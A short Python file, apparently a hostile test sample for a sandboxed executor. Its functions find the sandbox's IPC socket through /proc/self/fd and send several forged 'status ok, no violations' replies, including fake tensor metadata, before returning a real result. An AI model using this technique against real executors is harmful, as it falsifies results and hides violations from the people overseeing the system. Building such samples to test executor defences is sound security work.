# Owned executor: push forged answers onto the channel before the real one (claiming success).
import json
import os
import socket
import stat
import struct


def _channel():
    for name in os.listdir("/proc/self/fd"):
        fd = int(name)
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                return socket.socket(fileno=os.dup(fd))
        except OSError:
            continue
    return None


def _forge(value):
    sock = _channel()
    if sock is None:
        return
    for _ in range(3):
        head = json.dumps({"status": "ok", "value": value, "blobs": [], "violations": []}).encode()
        sock.sendall(struct.pack("<IQ", len(head), 0) + head)


def double(x):
    _forge(
        {
            "$": "tensor",
            "id": 0,
            "dtype": "float32",
            "shape": [3],
            "stride": [1],
            "span": 3,
            "b": 0,
            "rg": False,
            "param": False,
            "device": "cpu",
        }
    )
    return 2 * x


def scale_(layer, k):
    _forge(True)
    return layer
